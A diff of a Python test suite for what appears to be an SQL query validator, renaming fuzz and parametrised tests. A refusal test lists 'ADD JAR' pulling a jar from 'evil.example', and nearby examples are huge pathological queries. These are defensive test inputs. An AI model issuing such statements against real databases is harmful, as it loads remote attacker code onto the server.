@@ -90,7 +90,7 @@ def mutated(draw: st.DrawFn) -> str:
 
 
 @pytest.mark.parametrize("text", ACCEPTED)
-def test_what_is_mutated_is_accepted_as_it_is(text: str) -> None:
+def test_queries_before_mutation_are_accepted(text: str) -> None:
     assert outcome(text) == "accepted"
 
 
@@ -104,13 +104,13 @@ def test_what_is_mutated_is_accepted_as_it_is(text: str) -> None:
 )
 @settings(max_examples=count(sample=300, full=1000))
 @given(mutated())
-def test_a_query_that_is_nearly_right(text: str) -> None:
+def test_mutated_query(text: str) -> None:
     outcome(text)
 
 
 @settings(max_examples=count(sample=300, full=1000))
 @given(st.lists(st.sampled_from(WORDS), max_size=60).map(" ".join))
-def test_a_heap_of_words(text: str) -> None:
+def test_random_words(text: str) -> None:
     outcome(text)
 
 
@@ -129,7 +129,7 @@ def test_a_heap_of_words(text: str) -> None:
 @example("SELECT `" + "`" * 99_000)
 @example("WITH " + ",".join(f"w{n} AS (SELECT a FROM t)" for n in range(3_000)) + " SELECT a FROM t")
 @example("SELECT " + ",".join(f"a AS c{n}" for n in range(8_000)) + " FROM t")
-def test_any_text(text: str) -> None:
+def test_random_text(text: str) -> None:
     outcome(text)
 
 
@@ -168,5 +168,5 @@ def test_any_text(text: str) -> None:
         "ADD JAR 'http://evil.example/x.jar'",
     ],
 )
-def test_what_would_reach_further_is_refused(text: str) -> None:
+def test_code_files_and_secrets_are_refused(text: str) -> None:
     assert outcome(text) not in {"accepted", "invalid"}
